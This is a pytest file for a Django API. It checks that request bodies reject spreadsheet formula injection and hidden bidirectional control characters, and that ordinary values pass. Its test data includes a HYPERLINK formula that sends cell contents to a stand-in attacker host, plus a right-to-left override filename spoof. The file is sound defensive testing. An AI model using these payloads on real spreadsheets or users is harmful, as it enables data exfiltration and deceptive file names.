"""The API refuses the text forms and imports refuse (gemini.core.text; docs/security.md): text a
spreadsheet would run as a formula, and hidden bidirectional controls, with a 422 naming the
field. The walk of every operation's request body means a route added later cannot skip it.
"""

from __future__ import annotations

import json
import types
import typing
from typing import Any

import pytest
from django.test import Client
from pydantic import BaseModel

from gemini.api.api import api
from gemini.api.services import create_token
from gemini.core.schemas import InputSchema
from gemini.programme.models import Risk
from gemini.programme.risks.schemas import ProgrammeRiskIn

BASE = "/api/v1/programme"
LEVELS = {
    "inherent_likelihood": 3,
    "inherent_impact": 4,
    "current_likelihood": 2,
    "current_impact": 4,
    "target_likelihood": 1,
    "target_impact": 4,
}
FORMULAS = ['=HYPERLINK("https://attacker.example/?"&A1,"Click")', "+1+1", "@SUM(1)", "-2+3"]


def _models(annotation: Any) -> list[type[BaseModel]]:
    """The pydantic models an annotation names, through unions, lists and Annotated."""
    if isinstance(annotation, type) and issubclass(annotation, BaseModel):
        return [annotation]
    if typing.get_origin(annotation) in (
        typing.Union,
        types.UnionType,
        list,
        tuple,
        typing.Annotated,
    ):
        return [m for arg in typing.get_args(annotation) for m in _models(arg)]
    return []


def request_bodies() -> dict[str, list[Any]]:
    """Each operation's body and form parameters: path → their annotations."""
    found: dict[str, list[Any]] = {}
    for prefix, router in api._routers:
        for path, view in router.path_operations.items():
            for operation in view.operations:
                for model in operation.models:
                    if getattr(model, "__ninja_param_source__", None) in ("body", "form"):
                        key = f"{'/'.join(operation.methods)} {prefix.rstrip('/')}{path}"
                        found.setdefault(key, []).extend(
                            field.annotation for field in model.model_fields.values()
                        )
    return found


def unchecked(annotation: Any, seen: set[type[BaseModel]] | None = None) -> list[str]:
    """What in a request body escapes the text rule: plain text outside an InputSchema, or a
    model (nested at any depth) that is not an InputSchema."""
    seen = set() if seen is None else seen
    models = _models(annotation)
    if not models:
        return [] if annotation is not str else ["a bare text parameter"]
    problems = []
    for model in models:
        if model in seen:
            continue
        seen.add(model)
        if not issubclass(model, InputSchema):
            problems.append(model.__name__)
        for field in model.model_fields.values():
            problems.extend(
                name for name in unchecked(field.annotation, seen) if "bare" not in name
            )
    return problems


def test_every_request_body_is_an_input_schema():
    bodies = request_bodies()

    assert len(bodies) >= 11, "the walk saw too few request bodies to prove anything"
    assert ProgrammeRiskIn in [m for anns in bodies.values() for a in anns for m in _models(a)]
    assert {
        path: problems
        for path, annotations in bodies.items()
        if (problems := [p for a in annotations for p in unchecked(a)])
    } == {}


class Plain(BaseModel):
    title: str


class Outer(InputSchema):
    inner: list[Plain]


def test_the_walk_finds_a_body_that_is_not_an_input_schema():
    assert unchecked(Plain) == ["Plain"]
    assert unchecked(Outer) == ["Plain"]
    assert unchecked(str) == ["a bare text parameter"]
    assert unchecked(ProgrammeRiskIn) == []


@pytest.fixture
def pmo(demo, personas):
    _, token = create_token(personas["pmo"], "Tests")
    return Client(headers={"Authorization": f"Bearer {token}"})


def _post(client: Client, path: str, body: dict[str, object]) -> Any:
    return client.post(BASE + path, json.dumps(body), content_type="application/json")


def _field_errors(response: Any) -> dict[str, str]:
    return {error["loc"][-1]: error["msg"] for error in response.json()["detail"]}


@pytest.mark.django_db
@pytest.mark.parametrize("formula", FORMULAS)
def test_it_refuses_a_formula_naming_the_field_with_the_importers_message(pmo, formula):
    body = {"reference": "R70", "title": formula, **LEVELS}

    response = _post(pmo, "/risks", body)

    assert response.status_code == 422
    message = _field_errors(response)["title"]
    assert f"starts with {formula[0]}, so a spreadsheet would run it as a formula" in message
    assert not Risk.objects.filter(reference="R70").exists()


@pytest.mark.django_db
def test_it_refuses_a_hidden_direction_control_in_a_title_and_in_a_change(pmo):
    risk = Risk.objects.get(reference="R04")

    created = _post(pmo, "/risks", {"reference": "R71", "title": "Budget \u202eexe.pdf", **LEVELS})
    changed = pmo.patch(
        f"{BASE}/risks/{risk.pk}",
        json.dumps({"version": risk.version, "public_interest_reason": "x\u2067y\u2069"}),
        content_type="application/json",
    )

    assert created.status_code == 422
    assert _field_errors(created)["title"].startswith(
        "Remove the hidden right-to-left override character (U+202E) from the title"
    )
    assert not Risk.objects.filter(reference="R71").exists()
    assert changed.status_code == 422
    assert "from the public interest reason" in _field_errors(changed)["public_interest_reason"]
    assert Risk.objects.get(pk=risk.pk).version == risk.version


@pytest.mark.django_db
@pytest.mark.parametrize("value", ["-5", "+1.5", "-£1,234.50", "-0.25%", "+ 44", "-", "a=b"])
def test_it_keeps_plain_numbers_and_ordinary_text_as_the_importer_does(pmo, value):
    response = _post(
        pmo, "/risks", {"reference": "R72", "title": "Owner", "owner": value, **LEVELS}
    )

    assert response.status_code == 201, response.content
    assert Risk.objects.get(reference="R72").owner == value
